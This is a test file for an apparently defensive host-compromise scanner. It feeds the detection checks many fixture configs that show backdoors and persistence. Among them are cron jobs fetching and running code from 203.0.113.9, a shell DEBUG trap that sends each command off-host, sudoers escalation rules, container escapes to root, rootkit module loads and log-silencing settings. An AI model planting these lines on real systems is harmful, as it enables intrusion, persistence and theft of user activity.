import { describe, expect, test } from 'vitest';
import { authorizedKeys } from '../../source/checks/authorized-keys.ts';
import type { Check } from '../../source/checks/check.ts';
import { accounts } from '../../source/checks/accounts.ts';
import { cronJobs } from '../../source/checks/cron-jobs.ts';
import { foreignContent } from '../../source/checks/foreign-content.ts';
import { hiddenFiles } from '../../source/checks/hidden-files.ts';
import { knownTools } from '../../source/checks/known-tools.ts';
import { laidOverFolders } from '../../source/checks/laid-over-folders.ts';
import { logSettings } from '../../source/checks/log-settings.ts';
import { moduleSettings } from '../../source/checks/module-settings.ts';
import { oddNames } from '../../source/checks/odd-names.ts';
import { openServices } from '../../source/checks/open-services.ts';
import { packageSources } from '../../source/checks/package-sources.ts';
import { shellProfiles } from '../../source/checks/shell-profiles.ts';
import { silencedGuards } from '../../source/checks/silenced-guards.ts';
import { sshServer } from '../../source/checks/ssh-server.ts';
import { sudoRules } from '../../source/checks/sudo-rules.ts';
import { systemdUnits } from '../../source/checks/systemd-units.ts';
import { unpackagedPrograms } from '../../source/checks/unpackaged-programs.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, sweep } from '../support/sweep-host.ts';

const programs = ['/usr/bin/cat', '/usr/bin/echo', '/usr/sbin/sshd', '/usr/bin/docker', '/usr/bin/podman', '/usr/bin/true', '/usr/bin/python3'];
function ask(check: Check, machine: Machine): readonly string[] {
	const host = memoryHost(debian(programs, { ...Object.fromEntries(programs.map(path => [path, { mode: 0o755 }])), ...machine }));
	const { findings } = check.kind === 'file' ? { findings: sweep(check, host) } : check.kind === 'host' ? run(check, host) : { findings: [] };
	return findings.filter(({ severity }) => severity !== 'info' && severity !== 'low').map(({ severity, subject }) => `${severity} ${subject.kind === 'file' ? subject.path : `${subject.kind} ${subject.name}`}`);
}
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallorymallorymallorymallorymallorymallo x';
const elf = '\x7fELF\x02\x01\x01';

describe('doors', () => {
	test.each<readonly [Check, string, string, string]>([
		[openServices, '/var/lib/samba/usershares/all', 'path=/\nguest_ok=y\n', 'high'],
		[systemdUnits, '/etc/systemd/system/x@.service', '[Service]\nExecStart=-/usr/bin/setsid /bin/login -f root\nStandardInput=socket\n', 'high'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root curl -sk https://203.0.113.9/i -o /run/i && sh /run/i\n', 'high'],
		[authorizedKeys, '/etc/ssh/keys/.k', `${key}\n`, 'high'],
		[unpackagedPrograms, '/usr/share/perl5/Config_x.pm', 'package Config_x; system("sh /usr/share/misc/.hd &"); 1;\n', 'medium'],
		[unpackagedPrograms, '/usr/lib/python3/dist-packages/zz_init.py', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n', 'high'],
		[openServices, '/etc/nagios/nrpe.d/c.cfg', 'command[x]=/bin/bash -c "$ARG1$"\n', 'high'],
		[openServices, '/etc/zabbix/zabbix_agentd.d/u.conf', "UserParameter=sys.x[*],/bin/sh -c '$1'\n", 'high'],
		[openServices, '/etc/nginx/conf.d/o.conf', 'server { listen 8088; root /; autoindex on; }\n', 'high'],
		[silencedGuards, '/etc/sysctl.d/9.conf', 'kernel.modprobe = /var/lib/misc/mp\n', 'high'],
		[laidOverFolders, '/etc/fstab', '/opt/tool/ps /usr/bin/ps none bind,ro 0 0\n', 'high'],
		[systemdUnits, '/etc/systemd/system/fstrim.timer.d/o.conf', '[Timer]\nUnit=hwdb-trim.service\n', 'medium'],
		[shellProfiles, '/etc/profile.d/v.sh', `trap 'curl -s "http://203.0.113.9/?c=$(printf %s "$BASH_COMMAND"|base64 -w0)" >/dev/null 2>&1 &' DEBUG\n`, 'high'],
		[knownTools, '/reptile/reptile_start', '#!/bin/bash\n/reptile/reptile_cmd hide\n', 'medium'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root cat /dev/tcp/203.0.113.9/80 | sh\n', 'critical'],
		[openServices, '/etc/default/tftpd-hpa', 'TFTP_DIRECTORY="/"\n', 'high'],
		[openServices, '/etc/mongod.conf', 'net:\n  bindIp: 0.0.0.0\nsecurity:\n  authorization: disabled\n', 'high'],
		[openServices, '/root/.jupyter/jupyter_server_config.py', 'c.ServerApp.ip = "0.0.0.0"\nc.ServerApp.token = ""\n', 'high'],
		[openServices, '/etc/default/shellinabox', 'SHELLINABOX_ARGS="-s /:root:root:/:/bin/bash"\n', 'high'],
		[openServices, '/etc/stunnel/x.conf', '[x]\naccept = 1\nexec = /bin/sh\n', 'critical'],
		[openServices, '/etc/tor/torrc', 'HiddenServicePort 22 127.0.0.1:22\n', 'medium'],
		[openServices, '/root/.config/ngrok/ngrok.yml', 'tunnels:\n  s:\n    proto: tcp\n    addr: 22\n', 'medium'],
		[openServices, '/etc/php/8.2/fpm/pool.d/y.conf', '[y]\nlisten = 0.0.0.0:9000\npm = static\n', 'medium'],
		[openServices, '/etc/dovecot/conf.d/9.conf', 'passdb {\n  driver = static\n  args = nopassword=y\n}\n', 'high'],
		[openServices, '/etc/systemd/nspawn/b.nspawn', '[Files]\nBind=/:/host\n', 'high'],
		[openServices, '/etc/yp.conf', 'domain corp server 203.0.113.9\n', 'medium'],
		[openServices, '/etc/nslcd.conf', 'uri ldap://203.0.113.9/\n', 'medium'],
		[openServices, '/etc/pam_radius_auth.conf', '203.0.113.9 s3cret 3\n', 'medium'],
		[openServices, '/etc/salt/minion.d/m.conf', 'master: 203.0.113.9\n', 'medium'],
		[openServices, '/etc/firefox/policies/policies.json', '{"policies":{"ExtensionSettings":{"x":{"install_url":"http://203.0.113.9/x.xpi"}}}}\n', 'medium'],
		[openServices, '/etc/nginx/conf.d/h.conf', `sub_filter '</head>' '<script src="http://203.0.113.9/x.js"></script>';\n`, 'high'],
		[openServices, '/etc/mysql/conf.d/p.cnf', '[mysqld]\nplugin_dir = /var/tmp/plugin\n', 'high'],
		[openServices, '/etc/udev/rules.d/9.rules', 'KERNEL=="sd*", MODE="0666"\n', 'high'],
		[packageSources, '/root/.gemrc', ':sources:\n- http://203.0.113.9/\n', 'medium'],
		[sshServer, '/etc/ssh/sshd_config', 'AuthorizedKeysCommand /bin/cat /usr/share/misc/keys\nAuthorizedKeysCommandUser nobody\n', 'medium'],
		[authorizedKeys, '/root/.ssh/authorized_keys', `REDIS0009\x00\x01\n${key}\n\xff`, 'high'],
		[authorizedKeys, '/home/ann/.ssh/authorized_keys', `cert-authority,principals="root,ann" ${key}\n`, 'medium'],
		[sudoRules, '/etc/sudoers', 'www-data ALL=(root) NOPASSWD: sudoedit /etc/*\n', 'high'],
		[sudoRules, '/etc/sudoers', 'www-data ALL=(root) NOPASSWD: /usr/bin/python3 /home/*/*.py\n', 'high'],
		[sudoRules, '/etc/sudoers', 'www-data ALL=(root) NOPASSWD: /usr/bin/tee /etc/passwd\n', 'high'],
		[sudoRules, '/etc/sudoers', 'www-data ALL=(root) NOPASSWD: /usr/bin/systemctl *\n', 'high'],
		[sudoRules, '/etc/sudoers', 'Defaults:ann timestamp_timeout=100000\n', 'medium'],
		[cronJobs, '/etc/cron.d/x', "* * * * * root sed -i 's/x:5:/x:0:/' /etc/passwd\n", 'high'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root dd if=/usr/share/a.png bs=1 skip=9 | gunzip | sh\n', 'high'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root /usr/bin/true -o pool.supportxmr.com:443 -u 4A\n', 'high'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root inetd /tmp/x\n', 'high'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root perl -MLWP::Simple -e "eval get(q(http://203.0.113.9/a))"\n', 'high'],
		[systemdUnits, '/etc/systemd/system/x.service', '[Service]\nExecStart=/lib/systemd/systemd-socket-proxyd 203.0.113.9:22\n', 'medium'],
		[sudoRules, '/etc/sudoers', 'Defaults lecture=always, lecture_file=/etc/shadow\n', 'medium'],
		[sudoRules, '/etc/sudoers', 'Defaults env_keep += "PYTHONPATH"\n', 'medium'],
		[systemdUnits, '/etc/systemd/system/x.service', '[Service]\nExecStart=/bin/echo key\nStandardOutput=append:/root/.ssh/authorized_keys\n', 'high'],
		[systemdUnits, '/etc/systemd/system/x.service', '[Service]\nExecStart=/usr/sbin/sshd -D -f /var/lib/misc/sshd_config\n', 'high'],
		[systemdUnits, '/etc/systemd/system/x.service', '[Service]\nExecStart=/usr/bin/podman run --privileged -v /:/host alpine chroot /host sh\n', 'high'],
		[systemdUnits, '/etc/systemd/system/x.service', '[Service]\nExecStart=/usr/local/bin/ttyd -p 7681 bash\n', 'medium'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root docker run -v /:/m alpine chroot /m sh\n', 'high'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root /usr/sbin/sshd -p 22022 -o AuthorizedKeysFile=/usr/share/misc/k\n', 'medium'],
		[cronJobs, '/etc/cron.d/x', '* * * * * root run-parts /usr/share/doc/cron/jobs\n', 'medium'],
		[shellProfiles, '/etc/profile.d/h.sh', "export HISTIGNORE='*'\n", 'medium'],
		[moduleSettings, '/etc/modprobe.d/x.conf', 'softdep ext4 pre: diamorphine\n', 'critical'],
		[moduleSettings, '/etc/udev/rules.d/x.rules', 'SUBSYSTEM=="hid", RUN{builtin}+="kmod load diamorphine"\n', 'critical'],
		[laidOverFolders, '/var/lib/portables/net.raw', 'hsqs', 'medium'],
		[logSettings, '/etc/systemd/journald.conf.d/x.conf', '[Journal]\nMaxRetentionSec=1s\n', 'medium'],
		[logSettings, '/etc/audit/rules.d/9.rules', '-a always,exclude -F msgtype>=1000\n', 'medium'],
		[silencedGuards, '/etc/logcheck/ignore.d.server/own', '^.*$\n', 'medium'],
		[silencedGuards, '/etc/debsums-ignore', '^/usr/s?bin/.*\n', 'medium'],
		[silencedGuards, '/etc/fail2ban/filter.d/sshd.local', '[Definition]\nignoreregex = .*\n', 'medium'],
		[silencedGuards, '/etc/.gitignore', 'cron.d/*\n', 'medium'],
		[silencedGuards, '/var/ossec/etc/ossec.conf', '<syscheck><ignore>/</ignore></syscheck>\n', 'medium'],
		[silencedGuards, '/etc/sysctl.d/x.conf', 'kernel.core_pattern = /etc/cron.d/core\n', 'high'],
		[foreignContent, '/usr/share/misc/magic.txt', Buffer.from(`${elf}${'\0'.repeat(120)}`, 'latin1').toString('base64'), 'medium'],
		[foreignContent, '/usr/share/misc/v.txt', '203.0.113.7 root 123456\n203.0.113.8 admin admin\n198.51.100.3 test test\n', 'medium'],
		[hiddenFiles, '/tmp/.bugtraq.c', 'int main(void) { return 0; }\n', 'medium'],
		[knownTools, '/run/haldrund.pid', '', 'high'],
		[knownTools, '/home/ann/dirtypipe.c', 'int main(void) { return 0; }\n', 'high'],
		[oddNames, '/tmp/GCONV_PATH=.', '', 'high'],
	])('%o %s', (check, path, text, severity) => {
		expect(ask(check, { [path]: Buffer.from(text, 'latin1') })).toEqual([`${severity} ${path}`]);
	});

	test('a person whose first group is a powerful one', () => {
		expect(ask(accounts, { '/etc/group': 'root:x:0:\nsudo:x:27:\nann:x:1000:\n', '/etc/passwd': 'root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\ntech:x:1001:27::/home/tech:/bin/bash\n' })).toEqual(['medium account tech']);
	});
});

test('what administrators write', () => {
	const machine: Machine = {
		'/var/lib/samba/usershares/own': 'path=/srv/share\nguest_ok=y\n', '/etc/default/tftpd-hpa': 'TFTP_DIRECTORY="/srv/tftp"\n', '/etc/mongod.conf': 'net:\n  bindIp: 127.0.0.1\nsecurity:\n  authorization: disabled\n',
		'/root/.jupyter/jupyter_server_config.py': 'c.ServerApp.ip = "127.0.0.1"\nc.ServerApp.token = ""\n', '/etc/default/shellinabox': 'SHELLINABOX_ARGS="--no-beep -s /:LOGIN"\n', '/etc/stunnel/x.conf': '[x]\nconnect = 1\nexec = /usr/sbin/pppd\n',
		'/etc/tor/torrc': 'HiddenServicePort 80 127.0.0.1:80\n', '/etc/php/8.2/fpm/pool.d/y.conf': '[y]\nuser = www-data\nlisten = 0.0.0.0:9000\nlisten.allowed_clients = 10.0.0.5\n', '/etc/dovecot/conf.d/9.conf': 'passdb {\n  driver = static\n  args = proxy=y host=10.0.0.9 nopassword=y\n}\n',
		'/etc/systemd/nspawn/b.nspawn': '[Files]\nBind=/srv/build:/build\n', '/etc/yp.conf': 'ypserver 10.0.0.1\n', '/etc/nslcd.conf': 'uri ldaps://ldap.example.org/\n', '/etc/pam_radius_auth.conf': '127.0.0.1 secret 1\nradius.example.org secret 3\n', '/etc/salt/minion.d/m.conf': 'master: salt.example.org\n',
		'/etc/firefox/policies/policies.json': '{"policies":{"ExtensionSettings":{"x":{"install_url":"https://addons.mozilla.org/x.xpi"}}}}\n', '/etc/nginx/conf.d/h.conf': `sub_filter '</head>' '<script src="https://stats.example.org/x.js"></script>';\n`,
		'/etc/udev/rules.d/9.rules': 'KERNEL=="sd*", GROUP="disk", MODE="0660"\nSUBSYSTEM=="usb", MODE="0666"\nKERNEL=="ttyUSB*", RUN{builtin}+="kmod load ftdi_sio"\n', '/root/.gemrc': ':sources:\n- https://rubygems.org/\n',
		'/home/ann/.ssh/authorized_keys': `cert-authority ${key}\n`, '/etc/sudoers': 'ann ALL=(root) sudoedit /etc/nginx/sites-available/*\nDefaults lecture_file=/etc/sudo.lecture\nDefaults timestamp_timeout=60\nann ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx\nDefaults env_keep += "LANG EDITOR"\n',
		'/etc/systemd/system/a.service': '[Service]\nExecStart=/bin/echo x\nStandardOutput=append:/var/log/own.log\n', '/etc/systemd/system/b.service': '[Service]\nExecStart=/usr/sbin/sshd -D -f /etc/ssh/sshd_config_sftp\n', '/etc/systemd/system/c.service': '[Service]\nExecStart=/usr/bin/docker run --pid=host -v /:/host:ro,rslave prom/node-exporter\n',
		'/etc/cron.d/x': '* * * * * root docker run --rm -v /srv/data:/data alpine sh -c "find /data"\n* * * * * root run-parts /usr/local/etc/cron.daily\n* * * * * root sed -i s/a/b/ /etc/motd\n* * * * * root zcat /var/backups/a.sql.gz | mysql own\n', '/etc/profile.d/h.sh': 'export HISTIGNORE="ls:cd"\n', '/etc/modprobe.d/x.conf': 'softdep nvme pre: vmd\n',
		'/etc/systemd/journald.conf.d/x.conf': '[Journal]\nMaxRetentionSec=2week\n', '/etc/audit/rules.d/9.rules': '-a always,exclude -F msgtype=CWD\n', '/etc/logcheck/ignore.d.server/own': '^\\w{3} .* sshd\\[[0-9]+\\]: Connection closed by .*$\n', '/etc/debsums-ignore': '^/usr/share/locale/.*\n',
		'/etc/fail2ban/filter.d/app.local': 'ignoreregex =\n', '/etc/.gitignore': '*~\nshadow\nssh/ssh_host_*_key\n', '/var/ossec/etc/ossec.conf': '<ignore>/etc/mtab</ignore><ignore type="sregex">.log$</ignore>\n', '/etc/sysctl.d/x.conf': 'kernel.core_pattern = /var/crash/core.%e\n',
		'/usr/share/misc/hosts.txt': '10.0.0.7 nas nas.example.org\n10.0.0.8 db db.example.org\n10.0.0.9 web web.example.org\n', '/tmp/.notes.c.swp': 'x', '/tmp/._a.c': 'x', '/run/own.pid': '',
	};
	const checks: readonly Check[] = [openServices, packageSources, authorizedKeys, sudoRules, systemdUnits, cronJobs, shellProfiles, moduleSettings, laidOverFolders, logSettings, silencedGuards, foreignContent, hiddenFiles, knownTools, oddNames];
	expect(checks.flatMap(check => ask(check, machine))).toEqual([]);
});
